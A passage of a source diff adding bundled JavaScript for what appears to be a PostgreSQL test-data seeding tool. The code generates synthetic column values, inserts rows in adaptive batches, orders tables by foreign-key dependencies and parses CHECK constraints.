+      const { start, days } = timeSpan(context);
+      if (want.unique) return { expr: `(DATE '${context.today}' - ${Math.max(1, want.rows)} + ${ROW}::int4)`, capacity: 5e6 };
+      if (MONOTONIC.test(want.name)) return { expr: `(DATE '${start}' + ((${ROW} - 1) * ${days} / ${Math.max(1, want.rows)})::int4)`, capacity: Infinity };
+      return { expr: `(DATE '${start}' + ${below(days, salt("date"))}::int4)`, capacity: Infinity };
+    };
+    time = (_typmod, want, salt) => want.unique ? { expr: `(TIME '00:00' + (${ROW} - 1) * INTERVAL '1 second')`, capacity: 86400 } : { expr: `(TIME '00:00' + ${below(86400, salt("time"))} * INTERVAL '1 second')`, capacity: Infinity };
+    BUILTIN = {
+      int2: integer(-32768, 32767, 1e3),
+      int4: integer(-2147483648, 2147483647, 1e6),
+      int8: integer(-MAX_SAFE, MAX_SAFE, 1e9),
+      numeric,
+      float4: float,
+      float8: float,
+      money: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : below(1e6, salt("money"))}::numeric / 100)::money`, capacity: Infinity }),
+      bool: (_t, want, salt) => want.unique ? { expr: `(${ROW} = 1)`, capacity: 2 } : { expr: `((${hash(salt("bool"))} & 1) = 0)`, capacity: Infinity },
+      uuid: (_t, _want, salt) => ({ expr: `encode(${bytes16(salt, "uuid")}, 'hex')::uuid`, capacity: Infinity }),
+      text: (_t, want, salt, context) => text(void 0, want, salt, context),
+      varchar: (typmod, want, salt, context) => text(typmod > 4 ? typmod - 4 : void 0, want, salt, context),
+      bpchar: (typmod, want, salt, context) => text(typmod > 4 ? typmod - 4 : void 0, want, salt, context),
+      name: (_t, want, salt, context) => text(63, want, salt, context),
+      date,
+      timestamp: timestamp((day) => `TIMESTAMP '${day}'`),
+      timestamptz: timestamp((day) => `TIMESTAMPTZ '${day} 00:00:00+00'`),
+      time,
+      timetz: (typmod, want, salt, context) => {
+        const t = time(typmod, want, salt, context);
+        return { ...t, expr: `${t.expr}::timetz` };
+      },
+      interval: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : below(30 * 86400, salt("interval"))} * INTERVAL '1 second')`, capacity: Infinity }),
+      json: (_t, _want, salt) => ({ expr: jsonObject("json", salt), capacity: Infinity }),
+      jsonb: (_t, _want, salt) => ({ expr: jsonObject("jsonb", salt), capacity: Infinity }),
+      bytea: (_t, _want, salt) => ({ expr: bytes16(salt, "bytea"), capacity: Infinity }),
+      inet: (_t, want, salt) => ({ expr: `('10.0.0.0'::inet + ${want.unique ? ROW : below(16777216, salt("inet"))})`, capacity: 4e9 }),
+      cidr: (_t, want, salt) => ({
+        expr: `network(set_masklen('10.0.0.0'::inet + ${want.unique ? ROW : below(65536, salt("cidr"))} * 256, 24))`,
+        capacity: 15e6
+      }),
+      macaddr: (_t, _want, salt) => ({ expr: `left(encode(${bytes16(salt, "mac")}, 'hex'), 12)::macaddr`, capacity: Infinity }),
+      macaddr8: (_t, _want, salt) => ({ expr: `left(encode(${bytes16(salt, "mac")}, 'hex'), 16)::macaddr8`, capacity: Infinity }),
+      bit: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : hash(salt("bit"))})::int8::bit(64)`, capacity: Infinity }),
+      varbit: (_t, want, salt) => ({ expr: `(${want.unique ? ROW : hash(salt("bit"))})::int8::bit(64)::varbit`, capacity: Infinity }),
+      tsvector: (_t, want, salt) => ({ expr: `to_tsvector('simple', ${sentence(salt, want.unique)})`, capacity: Infinity }),
+      point: (_t, want, salt) => ({ expr: point(salt, "point", want.unique), capacity: Infinity }),
+      box: (_t, want, salt) => ({ expr: `box(${point(salt, "a", want.unique)}, ${point(salt, "b", false)})`, capacity: Infinity }),
+      circle: (_t, want, salt) => ({ expr: `circle(${point(salt, "centre", want.unique)}, 1 + ${unit(salt("radius"))} * 10)`, capacity: Infinity }),
+      polygon: (_t, want, salt) => ({ expr: `polygon(box(${point(salt, "a", want.unique)}, ${point(salt, "b", false)}))`, capacity: Infinity }),
+      lseg: (_t, want, salt) => ({ expr: `lseg(${point(salt, "a", want.unique)}, ${point(salt, "b", false)})`, capacity: Infinity })
+    };
+    WORDS = [
+      "alpha",
+      "amber",
+      "apex",
+      "arc",
+      "atlas",
+      "aurora",
+      "beacon",
+      "birch",
+      "bold",
+      "bright",
+      "brook",
+      "cedar",
+      "cloud",
+      "comet",
+      "coral",
+      "crest",
+      "delta",
+      "drift",
+      "echo",
+      "ember",
+      "falcon",
+      "fern",
+      "flint",
+      "forge",
+      "frost",
+      "glade",
+      "harbor",
+      "hazel",
+      "horizon",
+      "iris",
+      "jade",
+      "lumen",
+      "maple",
+      "meadow",
+      "mesa",
+      "nova",
+      "oak",
+      "onyx",
+      "orbit",
+      "pearl",
+      "pine",
+      "pixel",
+      "prism",
+      "quartz",
+      "quill",
+      "raven",
+      "ridge",
+      "river",
+      "sage",
+      "shadow",
+      "silver",
+      "slate",
+      "solar",
+      "spark",
+      "spruce",
+      "stone",
+      "summit",
+      "tide",
+      "timber",
+      "valley",
+      "vertex",
+      "willow",
+      "zenith",
+      "zephyr"
+    ];
+    FIRST_NAMES = [
+      "Ada",
+      "Alan",
+      "Amara",
+      "Bruno",
+      "Chen",
+      "Clara",
+      "Dmitri",
+      "Elena",
+      "Farah",
+      "Felix",
+      "Grace",
+      "Hiro",
+      "Ines",
+      "Ivan",
+      "Jonas",
+      "Kaito",
+      "Lena",
+      "Liam",
+      "Maya",
+      "Mateo",
+      "Nadia",
+      "Noah",
+      "Olga",
+      "Omar",
+      "Priya",
+      "Rafael",
+      "Sara",
+      "Tariq",
+      "Uma",
+      "Vera",
+      "Yusuf",
+      "Zoe"
+    ];
+    LAST_NAMES = [
+      "Adams",
+      "Becker",
+      "Costa",
+      "Dubois",
+      "Eriksen",
+      "Fischer",
+      "Garcia",
+      "Hansen",
+      "Ito",
+      "Jensen",
+      "Kowalski",
+      "Lopez",
+      "Martin",
+      "Nakamura",
+      "Novak",
+      "Okafor",
+      "Petrov",
+      "Quinn",
+      "Rossi",
+      "Schmidt",
+      "Silva",
+      "Tanaka",
+      "Tran",
+      "Usman",
+      "Varga",
+      "Wagner",
+      "Weber",
+      "Wong",
+      "Yilmaz",
+      "Young",
+      "Zhang",
+      "Ziegler"
+    ];
+    CITIES = ["Amsterdam", "Berlin", "Chicago", "Dublin", "Lisbon", "London", "Madrid", "Mumbai", "Nairobi", "Osaka", "Paris", "Prague", "Seoul", "Sydney", "Toronto", "Vienna"];
+    COUNTRIES = ["US", "DE", "FR", "GB", "JP", "IN", "BR", "CA", "ES", "IT", "NL", "SE", "PL", "KR", "AU", "MX"];
+    CURRENCIES = ["USD", "EUR", "GBP", "JPY", "INR", "BRL", "CAD", "CHF"];
+    LOCALES = ["en", "de", "fr", "es", "ja", "pt", "it", "nl"];
+    STATUSES = ["active", "pending", "completed", "cancelled", "archived"];
+    arrayLiteral = (list) => `'{${list.map((w) => `"${w}"`).join(",")}}'::text[]`;
+    WORDS_SQL = arrayLiteral(WORDS);
+    PHRASES = (() => {
+      let state = 625341585;
+      const next = () => {
+        state = Math.imul(state ^ state >>> 15, 739982445) >>> 0;
+        state = (state ^ Math.imul(state ^ state >>> 12, 695872825)) >>> 0;
+        return state;
+      };
+      const phrase = () => Array.from({ length: 3 + next() % 3 }, () => WORDS[next() % WORDS.length]).join(" ");
+      return [0, 1, 2].map(() => arrayLiteral(Array.from({ length: 64 }, phrase)));
+    })();
+    suffix = (unique4, salt, spread = 1e3) => unique4 ? ROW : below(spread, salt("number"));
+    TEXT_KINDS = [
+      [/e_?mail/, (s, u) => `lower(${choose(FIRST_NAMES, s("first"), false)} || '.' || ${choose(LAST_NAMES, s("last"), false)}) || ${suffix(u, s)} || '@example.com'`],
+      [/^(first|given)_?name$/, (s, u, c) => unique3(choose(FIRST_NAMES, s("first"), c.skew), u)],
+      [/^(last|family|sur)_?name$|^surname$/, (s, u, c) => unique3(choose(LAST_NAMES, s("last"), c.skew), u)],
+      [/user_?name|login|handle|nick/, (s, u) => `lower(${choose(FIRST_NAMES, s("first"), false)}) || ${suffix(u, s, 1e5)}`],
+      [/(^|_)(full|display|contact|person|customer|author|owner)_?name$/, (s, u) => unique3(`${choose(FIRST_NAMES, s("first"), false)} || ' ' || ${choose(LAST_NAMES, s("last"), false)}`, u)],
+      [/url|website|link|href|uri$/, (s, u) => `'https://example.com/' || ${word(s("path"), 0)} || '/' || ${suffix(u, s, 1e5)}`],
+      [/phone|mobile|fax/, (s, u) => `'+1 555 ' || lpad((${suffix(u, s, 1e7)})::text, 7, '0')`],
+      [/country/, (s, u, c) => unique3(choose(COUNTRIES, s("country"), c.skew), u)],
+      [/currency/, (s, u, c) => unique3(choose(CURRENCIES, s("currency"), c.skew), u)],
+      [/locale|lang/, (s, u, c) => unique3(choose(LOCALES, s("locale"), c.skew), u)],
+      [/city|town/, (s, u, c) => unique3(choose(CITIES, s("city"), c.skew), u)],
+      [/street|address/, (s, u) => `${suffix(u, s, 2e3)} || ' ' || initcap(${word(s("street"), 0)}) || ' Street'`],
+      [/zip|postal|postcode/, (s, u) => `lpad((${suffix(u, s, 1e5)})::text, 5, '0')`],
+      [/status|state$|kind|type$|category|role|tier|stage|priority|level/, (s, u, c) => unique3(choose(STATUSES, s("status"), c.skew), u)],
+      [/slug|code|sku|key$|token|hash|ref(erence)?$|external/, (s, u) => `${word(s("code"), 0)} || '-' || ${u ? ROW : `to_hex(${below(16777216, s("number"))})`}`],
+      [/descr|body|content|comment|note|message|summary|bio|text|detail|reason|remark/, (s, u) => sentence(s, u)],
+      [/name|title|label|subject|headline|caption/, (s, u) => unique3(`initcap(${word(s("title"), 0)} || ' ' || ${word(s("title"), 1)})`, u)]
+    ];
+  }
+});
+
+// src/seed/fill.ts
+async function fillTable(session, plan, onBatch) {
+  let mode = plan.collisions && !plan.deferrableUnique ? "conflict" : "plain";
+  let next = 1;
+  let inserted = 0;
+  let batch = FIRST_BATCH;
+  let lastError;
+  let rowError;
+  let emptyBatches = 0;
+  let rowFunction = false;
+  const limit = Math.min(plan.maxRow, plan.target * MAX_ROWS_PER_WANTED + 1e4);
+  while (inserted < plan.target) {
+    if (next > limit) return { rows: inserted, shortfall: await exhausted(session, plan, next, rowError ?? lastError) };
+    const remaining = plan.target - inserted;
+    const yieldRate = next > 1 ? Math.max(inserted / (next - 1), 0.02) : 1;
+    const size = Math.max(1, Math.min(mode === "rows" ? ROW_MODE_BATCH : batch, Math.ceil(remaining / yieldRate), limit - next + 1));
+    const [from, to] = [next, next + size - 1];
+    const started = performance.now();
+    let got;
+    try {
+      if (mode === "rows") {
+        if (!rowFunction) await createRowFunction(session, plan);
+        rowFunction = true;
+        const result2 = await insertRows(session, from, to, remaining);
+        got = result2.rows;
+        rowError ??= result2.error;
+      } else {
+        got = await insertBatch(session, plan, from, to, remaining, mode === "conflict");
+      }
+    } catch (error) {
+      if (error instanceof ProviderError) throw error;
+      const code = error.code;
+      lastError = describe2(error);
+      if (code === QUERY_CANCELED && batch > FIRST_BATCH) {
+        batch = Math.max(FIRST_BATCH, Math.floor(batch / 4));
+        continue;
+      }
+      if (mode === "plain" && (code === UNIQUE_VIOLATION || code === EXCLUSION_VIOLATION) && !plan.deferrableUnique) {
+        mode = "conflict";
+        continue;
+      }
+      if (mode !== "rows") {
+        mode = "rows";
+        continue;
+      }
+      return { rows: inserted, shortfall: `inserting failed: ${lastError}` };
+    }
+    const ms = performance.now() - started;
+    inserted += got;
+    next = to + 1;
+    onBatch(inserted);
+    emptyBatches = got === 0 ? emptyBatches + 1 : 0;
+    if (emptyBatches >= 3) return { rows: inserted, shortfall: await exhausted(session, plan, from, rowError ?? lastError, to) };
+    if (mode !== "rows") batch = nextBatch(size, ms);
+  }
+  return { rows: inserted };
+}
+function nextBatch(size, ms) {
+  return Math.max(1e3, Math.min(MAX_BATCH, Math.round(size * Math.min(4, Math.max(0.25, BATCH_MS / Math.max(ms, 1))))));
+}
+function selectSql(plan, from, to, limit) {
+  const inner = plan.columns.map((c) => `${c.value} AS ${c.column.sql}`).join(", ");
+  const rows2 = `(SELECT g${plan.hashes.map((salt) => `, hashint8extended(g, ${salt}) AS h${salt}`).join("")} FROM (SELECT generate_series(${from}::int8, ${to}::int8) AS g) AS series OFFSET 0) AS sp${plan.joins.map((j) => ` ${j}`).join("")}`;
+  const cap = limit !== void 0 ? ` LIMIT ${limit}` : "";
+  if (plan.filters.length === 0 && plan.columns.every((c) => c.outer === `r.${c.column.sql}`)) return `SELECT ${inner} FROM ${rows2}${cap}`;
+  const outer = plan.columns.map((c) => c.outer).join(", ");
+  const where = plan.filters.length > 0 ? ` WHERE ${plan.filters.map((f) => f.sql).join(" AND ")}` : "";
+  return `SELECT ${outer} FROM (SELECT ${inner} FROM ${rows2} OFFSET 0) AS r${where}${cap}`;
+}
+function insertInto(plan) {
+  const list = plan.columns.length > 0 ? ` (${plan.columns.map((c) => c.column.sql).join(", ")})` : "";
+  return `INSERT INTO ${plan.relation.sql}${list}`;
+}
+async function insertBatch(session, plan, from, to, limit, onConflict) {
+  const lossy = plan.filters.length > 0 || onConflict || plan.relation.beforeInsertTriggers;
+  const insert = `${insertInto(plan)} ${selectSql(plan, from, to, plan.filters.length > 0 ? limit : void 0)}${onConflict ? " ON CONFLICT DO NOTHING" : ""}`;
+  if (!lossy) {
+    await session.query(insert);
+    return to - from + 1;
+  }
+  const [row] = await session.query(`WITH sp_ins AS (${insert} RETURNING 1) SELECT count(*)::int8 AS n FROM sp_ins`);
+  return Number(row.n);
+}
+async function createRowFunction(session, plan) {
+  const values = plan.columns.map((c) => `sp_row.${c.column.sql}`).join(", ");
+  const insert = plan.columns.length > 0 ? `${insertInto(plan)} VALUES (${values})` : `${insertInto(plan)} DEFAULT VALUES`;
+  const onConflict = plan.deferrableUnique ? "" : " ON CONFLICT DO NOTHING";
+  await session.query(`
+CREATE OR REPLACE FUNCTION ${ROW_FUNCTION}(sp_from int8, sp_to int8, sp_limit int8, OUT ok int8, OUT first_error text)
+LANGUAGE plpgsql AS $sql_preflight$
+#variable_conflict use_column
+DECLARE sp_row record;
+BEGIN
+  ok := 0;
+  FOR sp_row IN ${selectSql(plan, "sp_from", "sp_to")} LOOP
+    BEGIN
+      ${insert}${onConflict};
+      IF FOUND THEN ok := ok + 1; END IF;
+    EXCEPTION WHEN OTHERS THEN
+      first_error := coalesce(first_error, SQLERRM);
+    END;
+    EXIT WHEN ok >= sp_limit;
+  END LOOP;
+END
+$sql_preflight$`);
+}
+async function insertRows(session, from, to, limit) {
+  const [row] = await session.query(`SELECT ok, first_error FROM ${ROW_FUNCTION}($1, $2, $3)`, [from, to, limit]);
+  return { rows: Number(row.ok), ...row.first_error ? { error: row.first_error } : {} };
+}
+async function dropRowFunction(session) {
+  await session.query(`DROP FUNCTION IF EXISTS ${ROW_FUNCTION}(int8, int8, int8)`);
+}
+async function exhausted(session, plan, from, error, to = from + 999) {
+  if (from > plan.maxRow) return "its unique keys ran out of distinct values";
+  if (error) return `generated rows failed: ${error}`;
+  if (plan.filters.length > 0) {
+    const counts = plan.filters.map((f, i) => `count(*) FILTER (WHERE ${f.sql}) AS f${i}`).join(", ");
+    const all = selectSql({ ...plan, filters: [] }, from, to);
+    try {
+      const [row] = await session.query(`SELECT ${counts} FROM (${all}) AS r`);
+      const rejecting = plan.filters.filter((_, i) => Number(row[`f${i}`]) === 0).map((f) => f.label);
+      if (rejecting.length > 0) return `no generated row satisfies ${rejecting.join(" and ")}`;
+      return `too few generated rows satisfy ${plan.filters.map((f) => f.label).join(" and ")}, or they collide on a unique key`;
+    } catch (error2) {
+      if (error2 instanceof ProviderError) throw error2;
+      return `generated rows failed: ${describe2(error2)}`;
+    }
+  }
+  return "the generated rows kept colliding on a unique key";
+}
+async function fillDeferred(session, child, fk, parent, keys, salts, skew) {
+  const sqlOf = (table, num) => table.columns.find((c) => c.num === num).sql;
+  const self = parent === child;
+  const rank = "pg_temp.sql_preflight_rank";
+  const r = "s.r";
+  const index = self ? `CASE WHEN ${r} > 1 AND ${below(1e3, salts("null"), r)} >= 100 THEN 1 + ${pick(`(least(${r}, ${keys.count} + 1) - 1)`, salts("pick"), skew, r)} END` : `CASE WHEN ${below(1e3, salts("null"), r)} >= 100 THEN 1 + ${pick(keys.count, salts("pick"), skew, r)} END`;
+  const set = fk.columns.map((n, i) => `${sqlOf(child, n)} = ${"first" in keys ? `${keys.first - 1} + ${index}` : `k.${sqlOf(parent, fk.parentColumns[i])}`}`).join(", ");
+  const join3 = "first" in keys ? `WHERE ${index} IS NOT NULL AND` : `JOIN ${keys.table} AS k ON k.i = ${index} WHERE`;
+  const order = self ? fk.parentColumns.map((n) => sqlOf(child, n)).join(", ") : "ctid";
+  try {
+    await session.query(`CREATE TEMPORARY TABLE ${rank.slice("pg_temp.".length)} AS SELECT row_number() OVER (ORDER BY ${order}) AS r, tableoid AS toid, ctid AS tid FROM ${child.sql}`);
+    await session.query(`ALTER TABLE ${rank} ADD PRIMARY KEY (r)`);
+    await session.query(`ANALYZE ${rank}`);
+    const [count2] = await session.query(`SELECT count(*)::int8 AS n FROM ${rank}`);
+    let batch = FIRST_BATCH;
+    for (let from = 1; from <= Number(count2.n); from += batch) {
+      const started = performance.now();
+      await session.query(
+        `UPDATE ${child.sql} AS t SET ${set} FROM ${rank} AS s ${join3} t.tableoid = s.toid AND t.ctid = s.tid AND s.r BETWEEN ${from} AND ${from + batch - 1}`
+      );
+      batch = nextBatch(batch, performance.now() - started);
+    }
+  } finally {
+    await session.query(`DROP TABLE IF EXISTS ${rank}`);
+  }
+}
+async function tuneSession(session) {
+  const [before] = await session.query(
+    `SELECT current_setting('session_replication_role') AS role, current_setting('work_mem') AS memory, current_setting('synchronous_commit') AS commit`
+  );
+  await session.query(`SELECT set_config('work_mem', '64MB', false), set_config('synchronous_commit', 'off', false)`);
+  let triggersOff = true;
+  try {
+    await session.query(`SELECT set_config('session_replication_role', 'replica', false)`);
+  } catch (error) {
+    if (error instanceof ProviderError) throw error;
+    triggersOff = false;
+  }
+  return {
+    triggersOff,
+    async restore() {
+      await session.query(`SELECT set_config('work_mem', $1, false), set_config('synchronous_commit', $2, false)`, [before.memory, before.commit]);
+      if (triggersOff) await session.query(`SELECT set_config('session_replication_role', $1, false)`, [before.role]);
+    }
+  };
+}
+async function checkForeignKeys(session, child, references) {
+  const broken = /* @__PURE__ */ new Map();
+  if (references.length === 0) return broken;
+  const sqlOf = (table, num) => table.columns.find((c) => c.num === num).sql;
+  const orphan = ({ fk, parent, keys }) => {
+    const columns = fk.columns.map((n) => `t.${sqlOf(child, n)}`);
+    if ("first" in keys) return `${columns[0]} NOT BETWEEN ${keys.first} AND ${keys.first + keys.count - 1}`;
+    const from = parent.kind === "partitioned" ? parent.sql : `ONLY ${parent.sql}`;
+    const match = fk.parentColumns.map((n, i) => `p.${sqlOf(parent, n)} = ${columns[i]}`).join(" AND ");
+    return `${columns.map((c) => `${c} IS NOT NULL`).join(" AND ")} AND NOT EXISTS (SELECT 1 FROM ${from} AS p WHERE ${match})`;
+  };
+  const [counts] = await session.query(
+    `SELECT ${references.map((r, i) => `count(*) FILTER (WHERE ${orphan(r)})::int8 AS k${i}`).join(", ")} FROM ${child.sql} AS t`
+  );
+  for (const [i, reference] of references.entries()) {
+    const count2 = Number(counts[`k${i}`]);
+    if (count2 === 0) continue;
+    broken.set(reference.fk, count2);
+    const { fk } = reference;
+    const canBeNull = fk.columns.every((n) => !child.columns.find((c) => c.num === n).notNull);
+    await session.query(
+      canBeNull ? `UPDATE ${child.sql} AS t SET ${fk.columns.map((n) => `${sqlOf(child, n)} = NULL`).join(", ")} WHERE ${orphan(reference)}` : `DELETE FROM ${child.sql} AS t WHERE ${orphan(reference)}`
+    );
+  }
+  return broken;
+}
+var UNIQUE_VIOLATION, EXCLUSION_VIOLATION, BATCH_MS, FIRST_BATCH, MAX_BATCH, ROW_MODE_BATCH, MAX_ROWS_PER_WANTED, ROW_FUNCTION, ParentKeyTables, INTEGERS;
+var init_fill = __esm({
+  "src/seed/fill.ts"() {
+    "use strict";
+    init_provider();
+    init_values();
+    UNIQUE_VIOLATION = "23505";
+    EXCLUSION_VIOLATION = "23P01";
+    BATCH_MS = 1e3;
+    FIRST_BATCH = 5e3;
+    MAX_BATCH = 5e5;
+    ROW_MODE_BATCH = 2e3;
+    MAX_ROWS_PER_WANTED = 50;
+    ROW_FUNCTION = "pg_temp.sql_preflight_seed_rows";
+    ParentKeyTables = class {
+      #session;
+      #tables = /* @__PURE__ */ new Map();
+      #made = [];
+      constructor(session) {
+        this.#session = session;
+      }
+      async keys(parent, columns) {
+        const id = `${parent.oid}:${columns.join(",")}`;
+        const known = this.#tables.get(id);
+        if (known) return known;
+        const keyColumns = columns.map((n) => parent.columns.find((c) => c.num === n));
+        const names3 = keyColumns.map((c) => c.sql);
+        const from = parent.kind === "partitioned" ? parent.sql : `ONLY ${parent.sql}`;
+        const only = keyColumns.length === 1 ? keyColumns[0] : void 0;
+        if (only && only.type.schema === "pg_catalog" && INTEGERS.has(only.type.name)) {
+          const [row2] = await this.#session.query(
+            `SELECT count(${only.sql})::int8 AS n, min(${only.sql})::int8 AS lo, max(${only.sql})::int8 AS hi FROM ${from}`
+          );
+          const [n, lo, hi] = [Number(row2.n), row2.lo === null ? 0 : Number(row2.lo), row2.hi === null ? 0 : Number(row2.hi)];
+          if (n === 0 || hi - lo + 1 === n) {
+            const keys2 = { count: n, first: lo };
+            this.#tables.set(id, keys2);
+            return keys2;
+          }
+        }
+        const table = `pg_temp.sql_preflight_keys_${this.#tables.size + 1}`;
+        await this.#session.query(
+          `CREATE TEMPORARY TABLE ${table.slice("pg_temp.".length)} AS SELECT row_number() OVER (ORDER BY ${names3.join(", ")}) AS i, ${names3.join(", ")} FROM ${from} WHERE ${names3.map((n) => `${n} IS NOT NULL`).join(" AND ")}`
+        );
+        this.#made.push(table);
+        await this.#session.query(`ALTER TABLE ${table} ADD PRIMARY KEY (i)`);
+        await this.#session.query(`ANALYZE ${table}`);
+        const [row] = await this.#session.query(`SELECT count(*)::int8 AS n FROM ${table}`);
+        const keys = { table, count: Number(row.n) };
+        this.#tables.set(id, keys);
+        return keys;
+      }
+      async drop() {
+        for (const table of this.#made.splice(0)) await this.#session.query(`DROP TABLE IF EXISTS ${table}`);
+        this.#tables.clear();
+      }
+    };
+    INTEGERS = /* @__PURE__ */ new Set(["int2", "int4", "int8"]);
+  }
+});
+
+// src/seed/order.ts
+function fillOrder(tables, byOid) {
+  const remaining = new Set(tables);
+  const parentsIn = (t) => t.foreignKeys.filter((fk) => fk.parent !== t.oid && remaining.has(byOid.get(fk.parent)));
+  const steps = [];
+  const stuck = /* @__PURE__ */ new Map();
+  while (remaining.size > 0) {
+    let best;
+    for (const t of remaining) {
+      const waiting = parentsIn(t);
+      if (waiting.some((fk) => !nullable(t, fk))) continue;
+      if (!best || waiting.length < best.deferred.length) best = { relation: t, deferred: waiting };
+      if (waiting.length === 0) break;
+    }
+    if (best) {
+      steps.push(best);
+      remaining.delete(best.relation);
+      continue;
+    }
+    for (const t of remaining) stuck.set(t, cycleReason(t, (x) => parentsIn(x).find((fk) => !nullable(x, fk)), byOid));
+    remaining.clear();
+  }
+  return { steps, stuck };
+}
+function nullable(table, fk) {
+  return fk.columns.every((num) => {
+    const column = table.columns.find((c) => c.num === num);
+    return column !== void 0 && !column.notNull && !domainNotNull(column);
+  });
+}
+function domainNotNull(column) {
+  return column.type.domainNotNull === true;
+}
+function cycleReason(start, edge, byOid) {
+  const path3 = [];
+  let at = start;
+  while (!path3.includes(at)) {
+    path3.push(at);
+    at = byOid.get(edge(at).parent);
+  }
+  const cycle = [...path3.slice(path3.indexOf(at)), at].map((t) => t.name).join(" \u2192 ");
+  if (path3.indexOf(at) === 0) return `its NOT NULL foreign keys form a cycle (${cycle}), so no table in it can get the first row`;
+  return `it needs rows in ${path3[1].name}, whose NOT NULL foreign keys form a cycle (${cycle})`;
+}
+var init_order = __esm({
+  "src/seed/order.ts"() {
+    "use strict";
+  }
+});
+
+// src/seed/checks.ts
+function readCheck(expr, column) {
+  const hints = /* @__PURE__ */ new Map();
+  const hintsOf = (key) => hints.get(key) ?? hints.set(key, {}).get(key);
+  let complete = true;
+  for (const part of conjuncts3(expr)) {
+    if (!readConjunct(part, column, hintsOf)) complete = false;
+  }
+  return { hints, complete };
+}
+function readConjunct(part, column, hintsOf) {
+  let m = /^(.+?) = ANY \((.+)\)$/s.exec(part);
+  if (m) {
+    const name2 = column(columnReference(m[1]));
+    const list = arrayElements(m[2]);
+    if (name2 === void 0 || !list) return false;
+    hintsOf(name2).values = list;
+    return true;
+  }
+  m = /^(.+?) IS NOT NULL$/s.exec(part);
+  if (m) {
+    const name2 = column(columnReference(m[1]));
+    if (name2 === void 0) return false;
+    hintsOf(name2).notNull = true;
+    return true;
+  }
+  m = /^(.+?) (>=|>|<=|<|=) (.+)$/s.exec(part);
+  if (!m) return false;
+  const [, left, op, right] = m;
+  const length = /^(?:length|char_length|character_length)\((.+)\)$/s.exec(left);
+  const value = numericConstant(right);
+  if (value === void 0 || !length && TEXT_CAST.test(`${left} ${right}`)) return false;
+  const name = column(columnReference(length ? length[1] : left));
+  if (name === void 0) return false;
+  const h = hintsOf(name);
+  if (length) {
+    if (op === "<=" || op === "=") h.maxLength = Math.min(h.maxLength ?? Infinity, value);
+    if (op === "<") h.maxLength = Math.min(h.maxLength ?? Infinity, value - 1);
+    if (op === ">=" || op === "=") h.minLength = Math.max(h.minLength ?? 0, value);
+    if (op === ">") h.minLength = Math.max(h.minLength ?? 0, value + 1);
+    return true;
+  }
+  if ((op === ">=" || op === ">" || op === "=") && (h.min === void 0 || value > h.min)) Object.assign(h, { min: value, minExclusive: op === ">" });
+  if ((op === "<=" || op === "<" || op === "=") && (h.max === void 0 || value < h.max)) Object.assign(h, { max: value, maxExclusive: op === "<" });
+  return true;
+}
+function mergeHints(into, more) {
+  const merged = { ...into };
+  if (more.values) merged.values = more.values;
+  if (more.min !== void 0 && (merged.min === void 0 || more.min > merged.min)) Object.assign(merged, { min: more.min, minExclusive: more.minExclusive });
+  if (more.max !== void 0 && (merged.max === void 0 || more.max < merged.max)) Object.assign(merged, { max: more.max, maxExclusive: more.maxExclusive });
+  if (more.minLength !== void 0) merged.minLength = Math.max(merged.minLength ?? 0, more.minLength);
+  if (more.maxLength !== void 0) merged.maxLength = Math.min(merged.maxLength ?? Infinity, more.maxLength);
+  if (more.notNull) merged.notNull = true;
+  return merged;
+}
+function domainCheckFor(expr, column) {
+  return mapOutsideQuotes(expr, (code) => code.replace(/\bVALUE\b/g, column));
+}
+function rangeBound(bound) {
+  const m = /^FOR VALUES FROM \((.+)\) TO \((.+)\)$/s.exec(bound);
+  if (!m) return void 0;
+  const [from, to] = [m[1].trim(), m[2].trim()];
+  if (/^(MINVALUE|MAXVALUE)$/.test(from) || /^(MINVALUE|MAXVALUE)$/.test(to)) return void 0;
+  if (splitTopLevel(from, ",").length !== 1 || splitTopLevel(to, ",").length !== 1) return void 0;
+  return { from, to };
+}
+function listBound(bound) {
+  const m = /^FOR VALUES IN \((.+)\)$/s.exec(bound);
+  if (!m) return void 0;
+  return splitTopLevel(m[1], ",").map((v) => v.trim()).filter((v) => v !== "NULL");
+}
+function conjuncts3(expr) {
+  const inner = unwrap2(expr.trim());
+  const parts = splitTopLevel(inner, " AND ");
+  return parts.length > 1 ? parts.flatMap(conjuncts3) : [inner];
+}
+function columnReference(text2) {
+  let t = unwrap2(text2.trim());
+  for (; ; ) {
+    const cast = /^(.*)::[a-z_ ]+(?:\(\d+(?:,\d+)?\))?(?:\[\])?$/is.exec(t);
+    if (!cast || !balanced(cast[1])) return t;
+    t = unwrap2(cast[1].trim());
+  }
+}
+function numericConstant(text2) {
+  const t = columnReference(text2).replace(/^'(.*)'$/s, "$1");
+  if (!/^-?\d+(\.\d+)?$/.test(t)) return void 0;
+  return Number(t);
+}
+function arrayElements(text2) {
+  const t = columnReference(text2);
+  const m = /^ARRAY\[(.*)\]$/s.exec(t);
+  if (!m || !balanced(m[1])) return void 0;
+  return splitTopLevel(m[1], ",").map((e) => e.trim());
+}
+function unwrap2(text2) {
+  let t = text2;
+  while (t.startsWith("(") && t.endsWith(")") && balanced(t.slice(1, -1))) t = t.slice(1, -1).trim();
+  return t;
+}
+function balanced(text2) {
+  let depth = 0;
+  let nested = true;
+  const closed = scan(text2, (ch, quoted) => {
+    if (quoted) return;
+    if (ch === "(" || ch === "[") depth++;
+    if (ch === ")" || ch === "]") depth--;
+    if (depth < 0) nested = false;
+  });
+  return closed && nested && depth === 0;
+}
+function splitTopLevel(text2, separator) {
+  const parts = [];
+  let depth = 0;
+  let start = 0;
+  const quotedAt = new Uint8Array(text2.length);
+  scan(text2, (ch, quoted, i) => {
+    quotedAt[i] = quoted ? 1 : 0;
+  });
+  for (let i = 0; i < text2.length; i++) {
+    if (quotedAt[i]) continue;
+    const ch = text2[i];
+    if (ch === "(" || ch === "[") depth++;
+    else if (ch === ")" || ch === "]") depth--;
+    else if (depth === 0 && text2.startsWith(separator, i)) {
+      parts.push(text2.slice(start, i));
+      start = i + separator.length;
+      i += separator.length - 1;
+    }
+  }
+  parts.push(text2.slice(start));
+  return parts;
+}
+function scan(text2, visit) {
+  let quote3;
+  for (let i = 0; i < text2.length; i++) {
+    const ch = text2[i];
+    if (quote3) {
+      visit(ch, true, i);
+      if (ch === quote3) {
+        if (text2[i + 1] === quote3) visit(text2[++i], true, i);
+        else quote3 = void 0;
+      }
+    } else if (ch === "'" || ch === '"') {
+      quote3 = ch;
+      visit(ch, true, i);
+    } else {
+      visit(ch, false, i);
+    }
+  }
+  return quote3 === void 0;
+}
+function mapOutsideQuotes(text2, map) {
